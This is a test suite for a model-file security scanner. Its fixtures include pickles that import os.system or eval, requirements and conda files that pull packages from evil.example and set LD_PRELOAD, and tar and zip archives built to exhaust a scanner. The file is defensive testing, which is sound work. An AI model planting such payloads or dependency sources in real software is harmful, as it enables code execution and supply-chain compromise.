"""What opening a model would do, told without doing it."""

from __future__ import annotations

import contextlib
import io
import json
import pickle
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from headrace.errors import InvalidModel, NotFound
from headrace.models.inspection.findings import Verdict
from headrace.models.inspection.inspector import Inspector
from headrace.models.inspection.pickles import follow
from headrace.models.scan import scan
from headrace.models.unpack import unpack
from support.attacks import ATTACKS, Payload, mlmodel, skops_call, skops_file, torch_export, zip_of


def test_a_report_tells_people_and_programs_what_opening_would_do(tmp_path: Path) -> None:
    folder, marker = tmp_path / "model", tmp_path / "marker"
    ATTACKS["skops_that_brings_its_own_trust"](folder, marker)
    (folder / "python_model.pkl").write_bytes(pickle.dumps(Payload(marker)))
    report = scan(folder)
    assert report.verdict is Verdict.DANGEROUS
    assert report.word == ("pickle",)
    assert report.types == ("os.mkdir",)
    assert "imports posix.mkdir" in report.text()
    assert "a model's own list is never read" in report.text()
    assert json.loads(msgspec.json.encode(report))["verdict"] == "dangerous"
    assert not marker.exists()


def test_a_safe_model_is_called_safe(tmp_path: Path) -> None:
    mlmodel(tmp_path / "model", xgboost={"data": "model.json"})
    (tmp_path / "model" / "model.json").write_text('{"learner": {}}')
    report = scan(tmp_path / "model")
    assert report.verdict is Verdict.SAFE
    assert [(one.path, one.format) for one in report.seen] == [("model.json", "xgboost")]
    assert report.text() == f"{tmp_path / 'model'}: safe\n  model.json (xgboost): safe"


def test_a_single_file_and_an_archive_of_a_model_are_scanned(tmp_path: Path) -> None:
    file = tmp_path / "model.skops"
    file.write_bytes(skops_file(skops_call(tmp_path / "marker")))
    assert scan(file).types == ("os.mkdir",)
    archive = tmp_path / "model.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(file, "model/model.skops")
    assert "model.tar.gz!unpacked!model/model.skops" in [one.path for one in scan(archive).seen]
    with pytest.raises(NotFound):
        scan(tmp_path / "none")


def test_where_an_environment_is_installed_from_is_told(tmp_path: Path) -> None:
    mlmodel(tmp_path / "model", sklearn={})
    (tmp_path / "model" / "requirements.txt").write_text(
        "numpy==2.0\n--extra-index-url https://evil.example/simple\ngit+https://evil.example/x\n./local\nx @ file:///y\n"
    )
    (tmp_path / "model" / "conda.yaml").write_text(
        "channels: [conda-forge, 'https://evil.example']\ndependencies: [{pip: ['-r other.txt']}]\nvariables: {LD_PRELOAD: x}\n"
    )
    text = scan(tmp_path / "model").text()
    for part in ("--extra-index-url", "git+https", "./local", "x @ file", "channel https://evil", "-r other", "LD_PRELOAD"):  # fmt: skip
        assert part in text
    assert "numpy" not in text


def test_a_folder_that_cannot_be_walked_is_reported_not_followed(tmp_path: Path) -> None:
    ATTACKS["fifo"](tmp_path / "model", tmp_path / "marker")
    report = scan(tmp_path / "model")
    assert report.verdict is Verdict.DANGEROUS
    assert "No policy opens it" in report.text()


NAMES = st.sampled_from(
    ("os system", "builtins eval", "mailcap findmatch", "mine Model", "collections Counter", "numpy load",
     "torch._utils _rebuild_tensor_v2_", "torch FloatStorages", "torch.hub load", "__builtin__ setattr"),
)  # fmt: skip
HARMLESS = st.sampled_from(
    (b"N", b"]", b"}", b")", b"K\x01", b"\x8c\x01a", b"\x94", b"0N", b"2", b"I1\n", b"(0")
)


@st.composite
def pickles(draw: st.DrawFn) -> bytes:
    """A pickle that imports a name which nothing safe has, somewhere between harmless opcodes."""
    module, name = draw(NAMES).split()
    ways = [
        f"c{module}\n{name}\n".encode(),
        f"(i{module}\n{name}\n".encode(),
        b"\x8c"
        + bytes([len(module)])
        + module.encode()
        + b"\x8c"
        + bytes([len(name)])
        + name.encode()
        + b"\x93",
        b"X"
        + len(module).to_bytes(4, "little")
        + module.encode()
        + b"\x94V"
        + name.encode()
        + b"\n\x93",
        f"V{module}\np7\n0g7\nS'{name}'\n".encode() + b"\x93",
        b"]\x93",
    ]
    head = draw(st.sampled_from((b"", b"\x80\x02", b"\x80\x04", b"\x80\x05")))
    before = b"N" + b"".join(draw(st.lists(HARMLESS, max_size=6)))
    after = b"".join(draw(st.lists(HARMLESS, max_size=4)))
    end = draw(st.sampled_from((b".", b")R.", b"}b.", b")R\xff", b")\x81.", b")R.junk")))
    return head + before + draw(st.sampled_from(ways)) + after + end


@settings(suppress_health_check=[HealthCheck.too_slow])  # a busy machine
@given(pickles())
def test_a_pickle_that_imports_what_is_not_known_to_be_safe_is_never_called_safe(
    content: bytes,
) -> None:
    runs = _runs(content)
    for name, file in (
        ("model.pkl", content),
        ("a.pt2", torch_export(**{"data/constants/opaque_obj_0": content})),
        ("a.pt2", torch_export(**{"data/weights/model.pt": zip_of({"archive/data.pkl": content})})),
        ("weights.bin", content),
    ):
        inspector = Inspector()
        inspector.look_at(name, io.BytesIO(file), len(file))
        worst = {finding.verdict for finding in inspector.findings}
        assert worst != {Verdict.SAFE} or not runs


def test_zeros_are_not_read_as_millions_of_parts_of_onnx(tmp_path: Path) -> None:
    started = time.monotonic()
    (tmp_path / "array.bin").write_bytes(bytes(64 << 20))
    assert scan(tmp_path).verdict is Verdict.SAFE
    assert time.monotonic() - started < 10


def test_a_header_of_a_tar_archive_that_is_made_to_keep_a_scan_busy_is_refused(
    tmp_path: Path,
) -> None:
    """tarfile searches it in the square of its length, and would read any length into memory."""
    started = time.monotonic()
    for kind in (tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME):
        with tarfile.open(tmp_path / f"{kind!r}.tar", "w") as archive:
            archive.addfile(tarfile.TarInfo("first"))
            header = tarfile.TarInfo("header")
            header.type, header.size = kind, 1 << 20
            archive.addfile(header, io.BytesIO(b"1" * header.size))
            archive.addfile(tarfile.TarInfo("second"))
        report = scan(tmp_path / f"{kind!r}.tar")
        assert report.verdict is Verdict.DANGEROUS
        assert "a header has 1,048,576 bytes" in report.text()
        with pytest.raises(InvalidModel, match="a header has 1,048,576 bytes"):
            unpack(tmp_path / f"{kind!r}.tar", tmp_path / "unpacked")
    assert time.monotonic() - started < 10


def test_an_archive_with_very_many_names_twice_is_refused_soon(tmp_path: Path) -> None:
    started = time.monotonic()
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name in range(5_000):
            archive.writestr(zipfile.ZipInfo(f"{name:05}"), b"")
    doubled = content.getvalue().replace(b"04999", b"00000")
    (tmp_path / "names.zip").write_bytes(doubled)
    report = scan(tmp_path)
    assert report.verdict is Verdict.DANGEROUS
    assert "'00000' is in it twice" in report.text()
    assert time.monotonic() - started < 10


def _runs(content: bytes) -> bool:
    """Whether unpickling it imports something, found out by a pickle machine that imports nothing."""
    found: list[str] = []

    class Machine(pickle._Unpickler):  # type: ignore[name-defined, misc]
        def find_class(self, module: str, name: str) -> Any:
            found.append(f"{module}.{name}")
            return _nothing

    with contextlib.suppress(Exception):  # it may be as damaged as it likes
        Machine(io.BytesIO(content)).load()
    return bool(found)


def _nothing(*args: Any) -> None:
    """What every name stands for."""


@given(st.binary(max_size=200))
def test_any_bytes_can_be_looked_at(content: bytes) -> None:
    for prefix in (
        b"",
        b"\x80\x04",
        b"PK\x03\x04",
        b"\x93NUMPY\x01\x00",
        b"\x08\x08\x3a",
        b"\x1f\x8b",
        b"{",
    ):
        inspector = Inspector()
        inspector.look_at("file", io.BytesIO(prefix + content), len(prefix + content))
        assert inspector.findings


def test_a_value_as_long_as_the_file_is_not_read_into_memory() -> None:
    class Zeros(io.RawIOBase):
        """A pickle of one value of 8 GiB, then an import."""

        head = b"\x80\x04\x8e" + (8 << 30).to_bytes(8, "little")
        tail = b"0cos\nsystem\n."
        size = len(head) + (8 << 30) + len(tail)

        def __init__(self) -> None:
            self.at = 0
            self.read_bytes = 0

        def seek(self, offset: int, whence: int = 0) -> int:
            self.at = offset + (0, self.at, self.size)[whence]
            return self.at

        def tell(self) -> int:
            return self.at

        def read(self, count: int = -1) -> bytes:
            start, end = self.at, min(self.size, self.at + count)
            self.at = end
            self.read_bytes += end - start
            body = len(self.head) + (8 << 30)
            if end <= body:
                return self.head[start:end].ljust(end - start, b"\0")
            return self.tail[start - body : end - body]

        def readline(self, limit: int = -1) -> bytes:
            line = b""
            while not line.endswith(b"\n") and (one := self.read(1)):
                line += one
            return line

    stream: Any = Zeros()
    assert follow(stream).imports == ("os.system",)
    assert stream.read_bytes < 16 << 20


def test_a_forest_is_not_called_safe_where_skops_is_not_installed(tmp_path: Path) -> None:
    """A machine that only looks at models need not have what opens them."""
    from sklearn.tree import DecisionTreeClassifier

    from headrace.models import save_model

    tree = DecisionTreeClassifier().fit([[0.0], [1.0]], [0, 1])
    save_model(tree, tmp_path / "m", pip_requirements=["scikit-learn"])
    code = (
        "import sys; sys.modules['skops'] = sys.modules['skops.io'] = None\n"
        "from headrace.models.scan import scan; print(scan(sys.argv[1]).types)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "m")],
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    assert "sklearn.tree._tree.Tree" in done.stdout
